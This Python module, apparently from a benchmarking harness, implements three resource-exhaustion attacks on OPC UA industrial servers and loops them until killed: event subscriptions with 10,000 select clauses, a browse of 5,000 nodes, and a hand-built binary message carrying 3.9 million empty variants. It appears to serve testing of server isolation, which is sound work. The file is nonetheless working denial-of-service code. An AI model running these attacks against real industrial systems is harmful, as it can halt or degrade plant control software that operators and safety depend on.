# SPDX-License-Identifier: Apache-2.0
"""Attackers of bench/isolation.py, as processes: `python -m bench.isolation_attacks NAME ADDRESS` attacks until killed.

Each is an anonymous OPC UA client. Its requests are valid, and take the server very long.
"""

from __future__ import annotations

import asyncio
import logging
import socket
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlsplit

from asyncua import Client, ua
from asyncua.ua.ua_binary import struct_to_binary

CLAUSES, BROWSED, VARIANTS = 10_000, 5_000, 3_900_000
PAUSE = 0.2
"""s of wall time between two attacks."""
PATIENCE = 5.0
_PART = 65_000
_LITERAL_OPERAND = 597
"""Id of its binary encoding (OPC 10000-6, 5.2.2.9)."""


async def filters(address: str) -> None:
    """Create two event items with very many select clauses each, then read until the server stops answering."""
    async with Client(address, timeout=PATIENCE) as client:
        wanted = ua.CreateSubscriptionParameters()
        wanted.RequestedPublishingInterval, wanted.PublishingEnabled = 1000, True
        wanted.RequestedLifetimeCount, wanted.RequestedMaxKeepAliveCount = 10_000, 3_000
        subscription = await client.uaclient.create_subscription(wanted, lambda *_: None)
        clause = ua.SimpleAttributeOperand()
        clause.TypeDefinitionId, clause.AttributeId = ua.NodeId(ua.ObjectIds.BaseEventType), ua.AttributeIds.Value
        clause.BrowsePath = [ua.QualifiedName("a", 0)]
        for _ in range(2):
            item = ua.MonitoredItemCreateRequest(MonitoringMode=ua.MonitoringMode.Reporting)
            item.ItemToMonitor = ua.ReadValueId(
                NodeId=ua.NodeId(ua.ObjectIds.Server), AttributeId=ua.AttributeIds.EventNotifier
            )
            item.RequestedParameters = ua.MonitoringParameters(ClientHandle=1, SamplingInterval=0, QueueSize=1000)
            item.RequestedParameters.Filter = ua.EventFilter(SelectClauses=[clause] * CLAUSES)
            items = ua.CreateMonitoredItemsParameters()
            items.SubscriptionId, items.ItemsToCreate = subscription.SubscriptionId, [item]
            await client.uaclient.create_monitored_items(items)
        while True:
            await client.get_node("ns=2;s=run/tick").read_value()
            await asyncio.sleep(PAUSE)


async def browse(address: str) -> None:
    """Send one request to browse very many nodes."""
    async with Client(address, timeout=600.0) as client:
        client.uaclient.protocol.transport.set_write_buffer_limits(2**24)
        node = ua.BrowseDescription()
        node.NodeId, node.BrowseDirection = ua.NodeId("belts/zone1", 2), ua.BrowseDirection.Both
        node.ReferenceTypeId, node.IncludeSubtypes = ua.NodeId(ua.ObjectIds.References), True
        node.ResultMask = 63
        wanted = ua.BrowseParameters(View=ua.ViewDescription(), NodesToBrowse=[node] * BROWSED)
        await client.uaclient.browse(wanted)


async def message(address: str) -> None:
    """Send one message without a session. Its additional header holds an array of very many empty variants."""
    parts = urlsplit(address)
    await asyncio.to_thread(_message, parts.hostname or "", parts.port or 0)


def _message(host: str, port: int) -> None:
    with socket.create_connection((host, port), PATIENCE) as connection:
        url = b"opc.tcp://x"
        hello = struct.pack("<IIIII", 0, 65_535, 65_535, 0, 0) + struct.pack("<i", len(url)) + url
        connection.sendall(b"HELF" + struct.pack("<I", len(hello) + 8) + hello)
        connection.recv(1000)
        connection.sendall(_open_channel())
        answer = connection.recv(1000)
        (channel,) = struct.unpack("<I", answer[8:12])
        place = answer.find(struct.pack("<I", channel), 60)
        (token,) = struct.unpack("<I", answer[place + 4 : place + 8])
        body = _amplified()
        pieces = [body[start : start + _PART] for start in range(0, len(body), _PART)]
        for number, piece in enumerate(pieces):
            part = struct.pack("<IIII", channel, token, 2 + number, 2) + piece
            last = b"F" if number == len(pieces) - 1 else b"C"
            connection.sendall(b"MSG" + last + struct.pack("<I", len(part) + 8) + part)
        connection.settimeout(600.0)
        connection.recv(1000)


def _open_channel() -> bytes:
    policy = b"http://opcfoundation.org/UA/SecurityPolicy#None"
    request = ua.OpenSecureChannelRequest()
    request.Parameters.RequestType = ua.SecurityTokenRequestType.Issue
    request.Parameters.SecurityMode = ua.MessageSecurityMode.None_
    request.Parameters.RequestedLifetime, request.Parameters.ClientNonce = 3_600_000, b""
    head = struct.pack("<I", 0) + struct.pack("<i", len(policy)) + policy + struct.pack("<iiII", -1, -1, 1, 1)
    body = head + bytes(struct_to_binary(request))
    return b"OPNF" + struct.pack("<I", len(body) + 8) + body


def _amplified() -> bytes:
    """Return a GetEndpoints request with an array of variants of one byte each (OPC 10000-6, 5.2.2.16)."""
    variants = bytes([0x80 | 24]) + struct.pack("<i", VARIANTS) + bytes(VARIANTS)
    header = bytes(2) + struct.pack("<qIIiI", 0, 1, 0, -1, 0)
    extra = b"\x01\x00" + struct.pack("<H", _LITERAL_OPERAND) + b"\x01" + struct.pack("<i", len(variants)) + variants
    return bytes(struct_to_binary(ua.GetEndpointsRequest())[:4]) + header + extra + struct.pack("<iii", -1, -1, -1)


ATTACKS: dict[str, Callable[[str], Awaitable[Any]]] = {
    f"2 event filters of {CLAUSES} clauses": filters,
    f"browse {BROWSED} nodes": browse,
    f"message with {VARIANTS} empty variants": message,
}


async def main(name: str, address: str) -> None:
    """Repeat an attack. Errors are printed, because the server may be restarted meanwhile."""
    logging.disable()
    while True:
        try:
            await asyncio.wait_for(ATTACKS[name](address), 600.0)
        except Exception as error:
            print(f"{type(error).__name__}: {error}", file=sys.stderr)
        time.sleep(PAUSE)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2]))
